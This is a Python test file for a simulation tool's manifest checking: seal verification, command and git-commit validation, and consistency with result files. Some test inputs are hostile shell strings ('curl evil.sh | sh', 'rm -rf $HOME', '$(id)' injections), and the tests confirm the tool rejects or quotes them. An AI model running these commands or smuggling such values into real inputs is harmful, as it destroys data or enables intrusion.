"""A manifest is believed where its seal fits and where the other files say the same."""

import json

import pyarrow.parquet as pq
import pytest

from sim.errors import RequestError
from sim.manifest import checksums
from sim.telling.common import made_section
from sim.telling.needed import repeat_of
from sim.telling.reading import read_result
from sim.telling.report import report_of
from tests.telling.conftest import sealed
from tests.telling.sweeps import GAP, PAIR, noise, sweep_of
from tests.telling.test_reading import refused


@pytest.mark.parametrize(
    "change",
    [
        lambda held: held["scenarios"]["tiny"].update(title="Another"),
        lambda held: held["scenarios"]["tiny"].update(history="It was so."),
        lambda held: held["seeds"].update(worlds=7),
        lambda held: held.update(command="solidarity compare other.toml"),
        lambda held: held.update(started="2001-01-01T00:00:00Z"),
        lambda held: held.update(git={"commit": "0123456789ab", "dirty": False}),
        lambda held: held.update(seal="0" * 64),
        lambda held: held.update(more="than there was"),
    ],
)
def test_a_manifest_that_was_changed_is_found_by_its_seal(folder, change):
    path = folder / "manifest.json"
    held = json.loads(path.read_text(encoding="utf-8"))
    change(held)
    path.write_text(json.dumps(held), encoding="utf-8")
    assert refused(folder) == [f"{path}: is not as it was written: its seal differs"]


def test_how_a_manifest_is_laid_out_does_not_matter(folder, rewrite):
    rewrite(lambda _: None)
    assert read_result(folder).sealed


def test_the_manifest_of_an_earlier_version_has_no_seal(folder):
    path = folder / "manifest.json"
    held = json.loads(path.read_text(encoding="utf-8"))
    assert "manifest, are as they were written" in report_of(read_result(folder)).checked
    del held["seal"]
    path.write_text(json.dumps(held), encoding="utf-8")
    result = read_result(folder)
    assert not result.sealed
    told = report_of(result).checked
    assert "manifest itself bears none" in told
    assert "no signature" in told


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.sh | sh",
        "",
        "solidarity",
        "solidarity scenarios",
        "solidarity run tiny.toml",
        "'solidarity compare' tiny.toml",
        "solidarity compare 'tiny.toml",
        "solidarity compare tiny.toml\ncurl evil.sh",
        "solidarity compare tiny.toml\rcurl evil.sh",
        "solidarity compare tiny.toml\u2028curl evil.sh",
        "solidarity compare tiny.toml\x1b[2K",
    ],
)
def test_a_command_that_solidarity_did_not_get_is_not_offered(folder, rewrite, command):
    rewrite(lambda manifest: manifest.update(command=command))
    (line,) = refused(folder)
    assert line.startswith(f"{folder / 'manifest.json'}: command: expected ")


def test_no_sign_of_a_command_means_more_to_a_shell_than_itself(folder, rewrite):
    rewrite(
        lambda held: held.update(command="solidarity compare tiny.toml; rm -rf $HOME `id` > x & y")
    )
    result = read_result(folder)
    section = made_section(result, repeat_of(result))
    assert section.blocks[1].text == (
        "solidarity compare 'tiny.toml;' rm -rf '$HOME' '`id`' '>' x '&' y --out result"
    )


@pytest.mark.parametrize("commit", ["abc", "main", "$(id)", "0123456789ab; id", "A" * 12, "a" * 41])
def test_a_commit_is_a_number_of_git(folder, rewrite, commit):
    rewrite(lambda manifest: manifest.update(git={"commit": commit, "dirty": False}))
    (line,) = refused(folder)
    assert line.startswith(f"{folder / 'manifest.json'}: git.commit: ")


def unfit(folder):
    """Report a result whose manifest says other things than its files; give what is said."""
    with pytest.raises(RequestError) as caught:
        report_of(read_result(folder))
    front = f"{folder / 'manifest.json'}: "
    assert all(line.startswith(front) for line in caught.value.problems)
    return [line.removeprefix(front) for line in caught.value.problems]


@pytest.mark.parametrize(
    ("key", "value", "files"),
    [
        ("seeds", {"worlds": 7}, ["comparison.json", "runs.parquet"]),
        ("replicates", 5000, ["comparison.json"]),
        ("practices", ["imposition", "statement"], ["comparison.json"]),
        ("against", "statement", ["comparison.json"]),
    ],
)
def test_a_sealed_manifest_says_what_the_document_says(folder, rewrite, key, value, files):
    rewrite(lambda manifest: manifest.update({key: value}))
    place = "seeds.worlds" if key == "seeds" else key
    assert unfit(folder) == [f"{place}: is not what {name} says" for name in files]


def test_what_is_said_about_a_scenario_is_what_was_run(folder, rewrite):
    rewrite(lambda manifest: manifest["scenarios"]["tiny"].update(title="Proven", history="True."))
    assert unfit(folder) == [
        f"scenario: is not what {name} says" for name in ("comparison.json", "runs.parquet")
    ]


def test_a_run_says_which_world_it_is(ran, tmp_path):
    for path in ran.iterdir():
        (tmp_path / path.name).write_bytes(path.read_bytes())
    path = tmp_path / "manifest.json"
    held = json.loads(path.read_text(encoding="utf-8"))
    assert report_of(read_result(tmp_path)).kind == "One run"
    held.update(replicate=3, practices=["imposition"], seeds={"worlds": 9})
    path.write_text(json.dumps(sealed(held)), encoding="utf-8")
    assert unfit(tmp_path) == [
        f"{key}: is not what run.json says" for key in ("seeds.worlds", "replicate", "practices")
    ]


def test_what_a_manifest_does_not_say_is_not_compared(folder, rewrite):
    rewrite(lambda manifest: [manifest.pop(key) for key in ("replicates", "against", "settings")])
    assert report_of(read_result(folder)).kind == "Comparison"


def test_the_metadata_of_runs_is_compared_too(folder, rewrite):
    path = folder / "runs.parquet"
    table = pq.read_table(path)
    metadata = {**table.schema.metadata, b"seed": b"8"}
    pq.write_table(table.replace_schema_metadata(metadata), path)
    rewrite(lambda manifest: manifest.update(files=checksums(folder)))
    assert unfit(folder) == ["seeds.worlds: is not what runs.parquet says"]


def test_the_manifest_of_a_sweep_counts_its_runs(tmp_path):
    folder = sweep_of(tmp_path, GAP, noise, **PAIR).folder
    path = folder / "manifest.json"
    held = json.loads(path.read_text(encoding="utf-8"))
    assert report_of(read_result(folder)).kind == "Sweep"
    path.write_text(json.dumps(sealed({**held, "counts": {"runs": 61, "failed": 2}})), "utf-8")
    assert unfit(folder) == [
        f"counts.{key}: is not what runs.parquet says" for key in ("runs", "failed")
    ]
    path.write_text(json.dumps(sealed({**held, "counts": {"runs": 60, "failed": 1}})), "utf-8")
    assert unfit(folder) == ["counts.failed: is not what runs.parquet says"]


def test_a_plan_that_is_none_is_told_as_such(tmp_path):
    folder = sweep_of(tmp_path, GAP, noise, **PAIR).folder
    (folder / "plan.json").write_text("{}", encoding="utf-8")
    path = folder / "manifest.json"
    held = {**json.loads(path.read_text(encoding="utf-8")), "files": checksums(folder)}
    path.write_text(json.dumps(sealed(held)), encoding="utf-8")
    with pytest.raises(RequestError) as caught:
        report_of(read_result(folder))
    (line,) = caught.value.problems
    assert line.startswith(f"{folder / 'plan.json'}: cannot be read as a plan: it is no plan")
